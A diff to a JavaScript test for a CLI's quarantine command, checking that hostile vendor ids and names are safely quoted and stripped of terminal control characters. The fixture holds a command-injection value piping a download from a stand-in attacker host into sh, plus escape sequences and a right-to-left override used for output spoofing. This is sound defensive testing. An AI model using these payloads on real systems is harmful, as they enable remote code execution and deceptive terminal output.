@@ -117,13 +117,21 @@ test("shows what is wrong with a vendor's records", async () => {
 test("a vendor's ids and names cannot write commands or move the cursor", async () => {
   const hostile = await startVendor();
   hostile.sites = [
-    { site_id: "s1; curl http://evil.example/x|sh #", org_id: "org", name: "\u001b[1A\u001b[2K\rAll bound" },
+    {
+      site_id: "s1; curl http://evil.example/x|sh #",
+      org_id: "org",
+      name: "\u001b[1A\u009b2K\rAll bound\u202e",
+    },
   ];
   hostile.devices = [listed("cam-1", { site_id: "s1; curl http://evil.example/x|sh #" })];
   await run(["integration", "add", "hostile", hostile.baseUrl], { VENDOR_API_KEY: hostile.apiKey });
   const { stdout } = await run(["quarantine"]);
   expect(stdout).toContain("--site 's1; curl http://evil.example/x|sh #'");
-  for (const control of ["\u001b", "\r"]) expect(stdout).not.toContain(control);
+  const asJson = (await run(["quarantine", "--json"])).stdout;
+  for (const control of ["\u001b", "\u009b", "\r", "\u202e"]) {
+    expect(stdout + asJson).not.toContain(control);
+  }
+  expect(JSON.stringify(JSON.parse(asJson))).toContain("\u009b2K");
   await hostile.close();
 });
 
